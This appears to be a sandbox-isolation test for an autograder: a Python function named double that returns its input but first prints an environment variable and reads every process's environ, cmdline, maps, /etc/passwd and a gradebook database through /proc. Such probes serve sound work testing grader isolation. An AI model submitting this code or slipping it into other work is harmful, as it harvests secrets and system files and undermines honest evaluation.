# tries: to read the grader's environment, its own and its parents'
# reaches: /proc/1/
# gains without: environment
import os


def double(x):
    print(os.environ.get("@VARIABLE@"))
    for process in os.listdir("/proc"):
        if process.isdigit():
            for name in ("environ", "cmdline", "maps", "root/etc/passwd", "cwd/gradebook.db"):
                try:
                    with open(f"/proc/{process}/{name}") as file:
                        print(file.read()[:100_000])
                except (OSError, ValueError) as error:
                    print(error)
    return x
